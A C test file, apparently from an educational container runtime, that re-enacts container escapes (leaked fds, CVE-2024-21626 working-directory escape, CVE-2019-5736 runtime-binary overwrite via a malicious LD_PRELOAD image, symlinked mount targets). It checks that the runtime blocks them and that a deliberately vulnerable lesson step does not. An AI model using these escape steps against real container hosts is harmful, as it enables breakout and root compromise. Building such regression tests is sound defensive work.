/*
 * Escapes that capabilities and seccomp do not stop, because the runtime
 * itself opens the door: a fd it lets through, a working directory outside
 * the root, its own binary, a mount target that is a symlink.
 */
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "beyond.h"

/* A host directory with a file only the host has. */
static const char *host_secret_dir(char *buf, size_t len)
{
    char file[4400];
    FILE *f;

    snprintf(buf, len, "%s/fd-host", mb_tmp);
    mkdir(buf, 0700);
    snprintf(file, sizeof(file), "%s/secret", buf);
    f = fopen(file, "w");
    assert_non_null(f);
    fputs("host secret\n", f);
    fclose(f);
    return buf;
}

/* `sh -c 'exec 7<HOSTDIR; exec minibox ... run OPTIONS --rootfs R probe ARGS'`:
 * minibox starts with fd 7 open on a host directory, as a runtime does when
 * its caller (a daemon, a CI runner, a shell) leaves a fd without
 * close-on-exec. */
static void run_with_fd7(const char *bin, const char *options, const char *probe_args,
                         struct mb_result *r)
{
    char dir[4200], cli[9000], script[20000];

    host_secret_dir(dir, sizeof(dir));
    snprintf(script, sizeof(script), "exec 7<'%s'; exec %s run %s --rootfs '%s' probe %s", dir,
             bx_cli(bin, cli, sizeof(cli)), options, mb_rootfs, probe_args);
    bx_sh(r, script);
}

/* CVE-2024-21626 (runc "Leaky Vessels"): a fd of the runtime's own (there,
 * a handle on /sys/fs/cgroup) was still open when the command started.
 * Every fd above 2 must be closed on exec, minibox's and whatever minibox
 * itself inherited. */
void test_no_fd_of_minibox_reaches_the_container(void **state)
{
    (void)state;
    mb_hint("Every fd minibox holds is close-on-exec before execve: the container sees only 0, 1 "
            "and 2 (CVE-2024-21626).");
    bx_require();
    bx_expect_kv("fds", "0,1,2", "run", "--rootfs", mb_rootfs, "probe", "fds", NULL);
}

void test_inherited_fd_does_not_reach_the_container(void **state)
{
    struct mb_result r;

    (void)state;
    mb_hint("An fd the caller left open is not passed on: minibox closes (or marks close-on-exec) "
            "every fd above 2.");
    bx_require();
    run_with_fd7(mb_minibox, "", "fds", &r);
    bx_assert_kv(&r, "fds", "0,1,2");
    mb_result_free(&r);
    run_with_fd7(mb_minibox, "", "fd-escape 7 secret", &r);
    bx_assert_kv(&r, "escaped", "0");
    mb_result_free(&r);
}

/* Lesson: step 09 hands fd 7 to the container, and a directory fd is a way
 * out of any root: fchdir to it and read the host's file next to it. */
void test_lesson_step09_inherited_fd_reads_a_host_file(void **state)
{
    const char *step09;
    struct mb_result r;

    (void)state;
    mb_hint("Lesson: step 09 passes inherited fds on, so the container reads a host file through "
            "one (this test expects it to).");
    step09 = bx_require_step09();
    run_with_fd7(step09, "", "fd-escape 7 secret", &r);
    bx_assert_kv(&r, "escaped", "1");
    bx_assert_kv(&r, "content", "host secret");
    mb_result_free(&r);
}

/* CVE-2024-21626's other door: process.cwd = /proc/self/fd/N, where N is
 * the leaked fd. chdir happens before exec, while the fd is still open:
 * the command starts with a working directory outside its root, and "../"
 * walks the host. minibox must prove the directory is inside the root after
 * chdir, and refuse (125, one line) when it is not. */
void test_workdir_through_a_leaked_fd_is_refused(void **state)
{
    struct mb_result r;
    char v[4096];

    (void)state;
    mb_hint("The working directory is opened inside the root and checked to be below it: "
            "/proc/self/fd/N cannot lead outside (CVE-2024-21626).");
    bx_require();
    /* -w itself works (a binary without it refuses every -w). */
    bx_expect_kv("cwd", "/tmp", "run", "-w", "/tmp", "--rootfs", mb_rootfs, "probe", NULL);
    run_with_fd7(mb_minibox, "-w /proc/self/fd/7", "", &r);
    if (r.status != 125)
        fail_msg("-w /proc/self/fd/7 (a host directory) was not refused: exit %d, cwd=%s", r.status,
                 mb_kv(r.out, "cwd", v, sizeof(v)));
    mb_assert_usage_error(&r);
    mb_result_free(&r);
    /* Whatever fds minibox itself holds while it sets up the container: a
     * working directory through any of them is refused or inside the root
     * (getcwd fails for a directory outside it: no cwd= line). */
    for (int fd = 3; fd <= 12; fd++) {
        char dir[64];

        snprintf(dir, sizeof(dir), "/proc/self/fd/%d", fd);
        mb_run(&r, NULL, "run", "-w", dir, "--rootfs", mb_rootfs, "probe", NULL);
        if (r.status != 125 && (r.status != 0 || mb_kv(r.out, "cwd", v, sizeof(v))[0] != '/'))
            fail_msg("-w %s: the command ran outside the root (exit %d, cwd='%s'): %s", dir,
                     r.status, v, r.err);
        mb_result_free(&r);
    }
    mb_assert_nothing_leaked();
}

/* CVE-2019-5736 (runc): the container makes the runtime execute its own
 * binary inside the container ("#!/proc/self/exe"), LD_PRELOADs code into
 * it, and takes a fd of /proc/self/exe: the host's runtime binary. Once the
 * runtime has exited, the fd opens for writing and the next `run` anywhere
 * on the host executes the attacker's code as root. See
 * fixtures/evil_preload.c for the two halves. The attack runs against a copy
 * of the binary under test, never against it. */
struct cve_2019_5736 {
    int stub_refused;      /* "#!/proc/self/exe" ran minibox-exec, which refused it */
    int overwritten;       /* the copy's bytes changed */
    char overwrite[64];    /* the accomplice's overwrite= */
    char exe_link[512];    /* what the fd it got names */
    char victim_out[4096]; /* what the victim container printed */
};

#define MARKER "#!/bin/sh\necho overwritten by a container\n"

/* `opt`: one more option of the victim's run, or NULL. */
static void cve_2019_5736(const char *engine, const char *tag, const char *opt,
                          struct cve_2019_5736 *o)
{
    char fixture[4096], dir[4300], copy[4400], shared[4400], spec[4500], tar[4400], name[64];
    char script[32768], line[1024], acc_out[8192] = "";
    struct mb_result r;
    struct mb_proc acc;
    size_t orig_len, now_len;
    char *orig, *now;

    memset(o, 0, sizeof(*o));
    bx_require();
    if (system("command -v cc >/dev/null && command -v umoci >/dev/null && "
               "command -v ldd >/dev/null") != 0)
        mb_skip("cc, umoci or ldd is missing (scripts/deps.sh installs them): the malicious "
                "image is built at test time");
    if (system("grep -qw overlay /proc/filesystems || modprobe overlay 2>/dev/null") != 0)
        mb_skip("overlayfs is not available (modprobe overlay): the attack comes as an image");
    if (bx_repo_path("tests/10-beyond/fixtures/evil_preload.c", fixture, sizeof(fixture)) == NULL)
        mb_skip("tests/10-beyond/fixtures/evil_preload.c not found (set MB_REPO to the checkout)");
    snprintf(dir, sizeof(dir), "%s/cve-2019-5736-%s", mb_tmp, tag);
    snprintf(copy, sizeof(copy), "%s/minibox", dir);
    snprintf(shared, sizeof(shared), "%s/shared", dir);
    snprintf(spec, sizeof(spec), "%s:/shared", shared);
    snprintf(tar, sizeof(tar), "%s/evil.tar", dir);
    snprintf(name, sizeof(name), "cve-2019-5736-%s", tag);
    /* The image: the test rootfs, the shared libraries of minibox (its
     * binary runs in there), /evil.so, and an entrypoint whose interpreter
     * is the runtime itself. */
    snprintf(
        script, sizeof(script),
        "set -e; d='%s'; rm -rf \"$d\"; mkdir -p \"$d/shared\"; chmod 777 \"$d/shared\"\n"
        "cp '%s' \"$d/minibox\"; chmod 755 \"$d/minibox\"\n"
        "cc -shared -fPIC -o \"$d/evil.so\" '%s'\n"
        "cd \"$d\"; umoci init --layout oci; umoci new --image oci:evil\n"
        "umoci unpack --image oci:evil bundle >/dev/null\n"
        "cp -a '%s'/. bundle/rootfs/\n"
        "for lib in $(ldd \"$d/minibox\" | grep -o '/[^ ]*'); do\n"
        "  mkdir -p \"bundle/rootfs$(dirname \"$lib\")\"; cp -L \"$lib\" \"bundle/rootfs$lib\"\n"
        "done\n"
        "cp evil.so bundle/rootfs/evil.so; mkdir -p bundle/rootfs/shared\n"
        "printf '#!/proc/self/exe\\n' > bundle/rootfs/entry; chmod 755 bundle/rootfs/entry\n"
        "umoci repack --image oci:evil bundle >/dev/null\n"
        "umoci config --image oci:evil --config.entrypoint /entry "
        "--config.env PATH=/bin:/usr/bin --config.env LD_PRELOAD=/evil.so "
        /* an ASan build of minibox refuses a preload unless told (test-asan) */
        "${ASAN_OPTIONS:+--config.env ASAN_OPTIONS=$ASAN_OPTIONS}\n"
        "umoci gc --layout oci; tar -C oci -cf '%s' .; rm -rf bundle oci\n",
        dir, engine, fixture, mb_rootfs, tar);
    bx_sh(&r, script);
    if (r.status != 0)
        fail_msg("building the malicious image failed: %s", r.err);
    mb_result_free(&r);
    orig = bx_slurp(copy, &orig_len);
    assert_non_null(orig);
    bx_run_with(copy, &r, NULL, "image", "import", tar, name, NULL);
    if (r.status != 0)
        fail_msg("the copy could not import the image: %s", r.err);
    mb_result_free(&r);

    /* The attacker's second container, run by the engine itself: it waits
     * for the fd and writes when the kernel lets it. */
    bx_spawn_with(engine, &acc, "run", "-v", spec, "--rootfs", mb_rootfs, "probe", "overwrite-from",
                  "/shared/exe.sock", MARKER, NULL);
    mb_expect_line(&acc, "listening", 10000);
    if (opt != NULL)
        bx_run_with(copy, &r, NULL, "run", "--rm", opt, "-v", spec, name, NULL);
    else
        bx_run_with(copy, &r, NULL, "run", "--rm", "-v", spec, name, NULL);
    snprintf(o->victim_out, sizeof(o->victim_out), "exit %d; stdout: %s; stderr: %s", r.status,
             r.out, r.err);
    /* The full engine's run hands the command to minibox-exec (a program
     * without libc, from a sealed memfd): the entrypoint's interpreter,
     * /proc/self/exe, is then that stub, which runs only what minibox gives
     * it. Nothing of minibox runs in the container, so nothing has an fd
     * to hand over: the accomplice is told so (a connection without one). */
    o->stub_refused = r.status == 126 && mb_contains(r.err, "minibox-exec: runs only what");
    if (!mb_contains(r.out, "handoff=ok") && !o->stub_refused) {
        mb_result_free(&r);
        fail_msg("the re-enactment did not start: /evil.so did not run inside the runtime's "
                 "binary or could not hand over its fd (%s)",
                 o->victim_out);
    }
    mb_result_free(&r);
    if (o->stub_refused) {
        char sock[4500];
        int fd;

        snprintf(sock, sizeof(sock), "%s/exe.sock", shared);
        fd = mb_connect_unix(sock);
        if (fd >= 0) {
            (void)!write(fd, "x", 1);
            close(fd);
        }
    }
    while (mb_read_line(&acc, line, sizeof(line), 25000) == 0) {
        size_t used = strlen(acc_out);
        snprintf(acc_out + used, sizeof(acc_out) - used, "%s\n", line);
        if (strncmp(line, "overwrite=", 10) == 0)
            break;
    }
    bx_untrack(&acc);
    mb_finish(&acc, 10000);
    mb_kv(acc_out, "overwrite", o->overwrite, sizeof(o->overwrite));
    mb_kv(acc_out, "exe_link", o->exe_link, sizeof(o->exe_link));
    now = bx_slurp(copy, &now_len);
    assert_non_null(now);
    o->overwritten = now_len != orig_len || memcmp(now, orig, orig_len) != 0;
    free(orig);
    free(now);
    bx_run_with(engine, &r, NULL, "rmi", name, NULL);
    mb_result_free(&r);
    print_message("# /proc/self/exe in the container: %s; overwrite=%s\n", o->exe_link,
                  o->overwrite);
}

void test_runtime_binary_cannot_be_overwritten(void **state)
{
    struct cve_2019_5736 o;

    (void)state;
    mb_hint("minibox runs the command through minibox-exec, or re-executes itself, from a sealed "
            "memfd, so /proc/self/exe in the container is never the host's binary "
            "(CVE-2019-5736).");
    cve_2019_5736(mb_minibox, "final", NULL, &o);
    if (o.overwritten)
        fail_msg("a container overwrote the runtime's binary on the host through %s", o.exe_link);
    if (o.stub_refused) {
        /* "#!/proc/self/exe" reached minibox-exec, not minibox: no fd of
         * minibox's binary ever existed in the container. */
        if (strcmp(o.overwrite, "nofd") != 0)
            fail_msg("the accomplice got something to write (overwrite=%s, fd of %s)", o.overwrite,
                     o.exe_link);
        mb_assert_nothing_leaked();
        return;
    }
    if (strcmp(o.overwrite, "ok") == 0)
        fail_msg("the runtime's /proc/self/exe (%s) could be written: it is not sealed",
                 o.exe_link);
    if (o.overwrite[0] == '\0')
        fail_msg("the accomplice container never got to try the write (victim: %s)", o.victim_out);
    mb_assert_nothing_leaked();
}

/* With --init, minibox's own PID 1 stays in the container for its whole
 * life, so minibox-exec is not enough: minibox re-executes itself from a
 * sealed memfd. The attack then runs inside that copy and gets an fd of it,
 * which no write can change. */
void test_runtime_binary_sealed_copy_with_init(void **state)
{
    struct cve_2019_5736 o;

    (void)state;
    mb_hint("With --init (minibox stays in the container as PID 1) minibox re-executes from a "
            "sealed memfd copy: the fd a container gets of /proc/self/exe cannot be written "
            "(CVE-2019-5736).");
    cve_2019_5736(mb_minibox, "final-init", "--init", &o);
    if (o.overwritten)
        fail_msg("a container overwrote the runtime's binary on the host through %s", o.exe_link);
    if (o.stub_refused)
        fail_msg("with --init the command went through minibox-exec, but minibox's own PID 1 "
                 "stays in the container: it must run from a sealed copy");
    if (strcmp(o.overwrite, "ok") == 0)
        fail_msg("the runtime's /proc/self/exe (%s) could be written: it is not sealed",
                 o.exe_link);
    if (o.overwrite[0] == '\0')
        fail_msg("the accomplice container never got to try the write (victim: %s)", o.victim_out);
    mb_assert_nothing_leaked();
}

/* Lesson: step 09 runs from its file; the container gets the host's binary. */
void test_lesson_step09_runtime_binary_is_overwritten(void **state)
{
    struct cve_2019_5736 o;
    const char *step09;

    (void)state;
    mb_hint("Lesson: step 09 runs from the host's binary, which a container can reach through "
            "/proc/self/exe (this test expects the attack to work).");
    step09 = bx_require_step09();
    cve_2019_5736(step09, "step09", NULL, &o);
    if (!o.overwritten)
        fail_msg("step 09's copy was not overwritten (overwrite=%s, fd of %s; victim: %s)",
                 o.overwrite, o.exe_link, o.victim_out);
}

/* A rootfs (as an image would bring it) where /escape-abs is a symlink to
 * a host directory H by its absolute path, and /escape-rel the same by
 * enough "../" to climb from any rootfs to "/". Inside the container both
 * mean <root>/H, which exists in the rootfs too; resolved on the host's
 * side they are H itself, and a mount there, or a directory made for one,
 * lands outside the container. /escape-dangling leads to a host directory
 * that has no twin inside the root. */
struct symlinked {
    char root[4300], host[4300], twin[8700], dangling[4300];
};

static void symlink_rootfs(struct symlinked *s)
{
    char path[4400], target[4400], cmd[13100];

    snprintf(s->root, sizeof(s->root), "%s/symroot", mb_tmp);
    snprintf(s->host, sizeof(s->host), "%s/sym-host", mb_tmp);
    snprintf(s->twin, sizeof(s->twin), "%s%s", s->root, s->host);
    snprintf(s->dangling, sizeof(s->dangling), "%s/sym-host-dangling", mb_tmp);
    if (access(s->root, F_OK) == 0)
        return;
    snprintf(cmd, sizeof(cmd), "cp -a '%s' '%s' && mkdir -p '%s' '%s' '%s'", mb_rootfs, s->root,
             s->host, s->twin, s->dangling);
    assert_int_equal(system(cmd), 0);
    snprintf(path, sizeof(path), "%s/escape-abs", s->root);
    assert_int_equal(symlink(s->host, path), 0);
    snprintf(path, sizeof(path), "%s/escape-rel", s->root);
    snprintf(target, sizeof(target), "../../../../../../../../../../..%s", s->host);
    assert_int_equal(symlink(target, path), 0);
    snprintf(path, sizeof(path), "%s/escape-dangling", s->root);
    assert_int_equal(symlink(s->dangling, path), 0);
}

static int entries_of(const char *dir)
{
    DIR *d = opendir(dir);
    struct dirent *e;
    int n = 0;

    while (d != NULL && (e = readdir(d)) != NULL)
        n += strcmp(e->d_name, ".") != 0 && strcmp(e->d_name, "..") != 0;
    if (d != NULL)
        closedir(d);
    return n;
}

/* The host directories the links lead to on the host's side stay empty. */
static void assert_hosts_untouched(const struct symlinked *s, const char *what)
{
    if (entries_of(s->host) != 0)
        fail_msg("%s made or wrote something in the host directory %s", what, s->host);
    if (entries_of(s->dangling) != 0)
        fail_msg("%s made or wrote something in the host directory %s", what, s->dangling);
}

void test_tmpfs_on_a_symlink_lands_inside_the_root(void **state)
{
    static const char *const links[] = {"/escape-abs", "/escape-rel"};
    char script[512], written[8800];
    struct symlinked s;
    struct mb_result r;

    (void)state;
    mb_hint("Mount targets are opened with openat2(RESOLVE_IN_ROOT) and mounted through "
            "/proc/self/fd/N: a symlink cannot send a mount outside the root.");
    bx_require();
    symlink_rootfs(&s);
    for (size_t i = 0; i < 2; i++) {
        snprintf(script, sizeof(script), "probe stat %s/ && echo x > %s/file && echo wrote=ok",
                 links[i], links[i]);
        mb_run(&r, NULL, "run", "--tmpfs", links[i], "--rootfs", s.root, "sh", "-c", script, NULL);
        assert_hosts_untouched(&s, links[i]);
        bx_assert_kv(&r, "statfs_type", "0x1021994"); /* the tmpfs is where the link leads */
        bx_assert_kv(&r, "wrote", "ok");
        snprintf(written, sizeof(written), "%s/file", s.twin);
        if (access(written, F_OK) == 0)
            fail_msg("--tmpfs %s: the write went to the rootfs, not to a tmpfs", links[i]);
        mb_result_free(&r);
    }
    /* A link to nowhere inside the root: refused, or a tmpfs made inside. */
    mb_run(&r, NULL, "run", "--tmpfs", "/escape-dangling", "--rootfs", s.root, "probe", "stat",
           "/escape-dangling/", NULL);
    assert_hosts_untouched(&s, "--tmpfs /escape-dangling");
    if (r.status == 125)
        mb_assert_usage_error(&r);
    else
        bx_assert_kv(&r, "statfs_type", "0x1021994");
    mb_result_free(&r);
    mb_assert_nothing_leaked();
}

void test_volume_below_a_symlink_lands_inside_the_root(void **state)
{
    static const char *const links[] = {"/escape-abs", "/escape-rel"};
    char src[4300], file[4400], spec[8800], script[512];
    struct symlinked s;
    struct mb_result r;
    FILE *f;

    (void)state;
    mb_hint("A volume's target is resolved inside the root, component by component, as a --tmpfs "
            "target is.");
    bx_require();
    symlink_rootfs(&s);
    snprintf(src, sizeof(src), "%s/sym-src", mb_tmp);
    mkdir(src, 0755);
    snprintf(file, sizeof(file), "%s/from-volume", src);
    f = fopen(file, "w");
    assert_non_null(f);
    fputs("volume\n", f);
    fclose(f);
    for (size_t i = 0; i < 2; i++) {
        snprintf(spec, sizeof(spec), "%s:%s/x", src, links[i]);
        snprintf(script, sizeof(script), "cat %s/x/from-volume", links[i]);
        mb_run(&r, NULL, "run", "-v", spec, "--rootfs", s.root, "sh", "-c", script, NULL);
        assert_hosts_untouched(&s, spec);
        if (r.status != 0 || strcmp(r.out, "volume\n") != 0)
            fail_msg("-v %s: the volume is not where the symlink leads inside the container "
                     "(exit %d): %s %s",
                     spec, r.status, r.out, r.err);
        mb_result_free(&r);
    }
    snprintf(spec, sizeof(spec), "%s:/escape-dangling/x", src);
    mb_run(&r, NULL, "run", "-v", spec, "--rootfs", s.root, "cat", "/escape-dangling/x/from-volume",
           NULL);
    assert_hosts_untouched(&s, spec);
    if (r.status == 125)
        mb_assert_usage_error(&r);
    else
        assert_string_equal(r.out, "volume\n");
    mb_result_free(&r);
    mb_assert_nothing_leaked();
}
